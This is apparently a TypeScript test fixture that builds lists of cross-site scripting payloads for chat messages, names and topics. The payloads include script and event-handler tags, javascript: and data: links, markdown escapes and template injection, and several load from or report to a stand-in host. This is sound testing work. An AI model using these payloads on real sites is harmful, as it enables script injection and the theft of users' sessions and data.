/** Where a payload would report to, and which mark it would leave, if it ran. */
export const reportsTo = 'https://payload.example';
export const mark = 'payloadRan';

const run = `window.${mark}=1;alert(1);fetch('${reportsTo}')`;
const quoted = run.replaceAll("'", '&#39;');

/** Markup that runs something in a page that does not escape it. */
const elements = [
  `<script>${run}</script>`,
  `<ScRiPt src="${reportsTo}/x.js"></sCrIpT>`,
  `<img src=x onerror="${run}">`,
  `<img src="${reportsTo}/pixel.png">`,
  `<svg onload="${run}">`,
  `<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
  `<svg><script href="data:text/javascript,${run}"/></svg>`,
  `<body onload="${run}">`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>${quoted}</script>"></iframe>`,
  `<object data="data:text/html,<script>${run}</script>"></object>`,
  `<embed src="${reportsTo}/x.swf">`,
  `<details open ontoggle="${run}">open</details>`,
  `<input autofocus onfocus="${run}">`,
  `<video><source onerror="${run}"></video>`,
  `<audio src=x onerror="${run}">`,
  `<marquee onstart="${run}">`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${run}">`,
  `<style>@import '${reportsTo}/x.css';</style>`,
  `<link rel=stylesheet href="${reportsTo}/x.css">`,
  `<base href="${reportsTo}/">`,
  `<meta http-equiv="refresh" content="0;url=${reportsTo}">`,
  `<form action="${reportsTo}"><button>send</button></form>`,
  `<template><img src=x onerror="${run}"></template>`,
  `<noscript><p title="</noscript><img src=x onerror='${quoted}'>">`,
  `<a href="javascript:${run}">click</a>`,
  `<div style="background:url(${reportsTo}/bg.png)">styled</div>`,
  `"><img src=x onerror="${run}">`,
  `'-alert(1)-'`,
  `</textarea><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `<!--><img src=x onerror="${run}">-->`,
  `<x contenteditable onblur="${run}">lose focus</x>`,
  `{{constructor.constructor('${run}')()}}`,
  `\${alert(1)}`,
];

/** Markdown that leads somewhere it should not. */
const links = [
  `[plain](javascript:${run})`,
  `[capitals](JaVaScRiPt:alert(1))`,
  `[entity](&#106;avascript:alert(1))`,
  `[tab](java\tscript:alert(1))`,
  `[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[vb](vbscript:msgbox(1))`,
  `[blob](blob:${reportsTo}/1)`,
  `[file](file:///etc/passwd)`,
  `[quote](https://payload.example/"onmouseover="alert(1))`,
  `<javascript:alert(1)>`,
  `![image](javascript:alert(1))`,
  `![pixel](${reportsTo}/pixel.png)`,
  `![](x"onerror="alert(1))`,
  `[ref]\n\n[ref]: javascript:alert(1)`,
  `[title](https://payload.example "><img src=x onerror=alert(1)>")`,
];

/** Markdown that would close what it stands in. */
const blocks = [
  `\`<img src=x onerror="${run}">\``,
  `\`\`\`html"><img src=x onerror=alert(1)>\n<script>${run}</script>\n\`\`\``,
  `\`\`\`\n</code></pre><script>${run}</script>\n\`\`\``,
  `> <script>${run}</script>`,
  `- <img src=x onerror="${run}">\n- [x](javascript:alert(1))`,
  `| a |\n|---|\n| <img src=x onerror="${run}"> |`,
  `# <svg onload="${run}">`,
  `**<b onclick="${run}">bold</b>**`,
  `@<img src=x onerror=alert(1)>`,
  `\u202e<script>${run}</script>\u202c`,
];

/** What is written into messages. */
export const messagePayloads: readonly string[] = [...elements, ...links, ...blocks];

const isName = (payload: string): boolean => payload.length <= 80 && !/[\n\t]/.test(payload);

/** What fits into the name of a person or a room: 80 characters on one line. */
export const namePayloads: readonly string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  `"><script src=${reportsTo}/x.js></script>`,
  '</title><script>alert(1)</script>',
  ...messagePayloads,
].filter(isName);

/** What fits into a topic: 500 characters. */
export const topicPayloads: readonly string[] = messagePayloads.filter((payload) => payload.length <= 500);
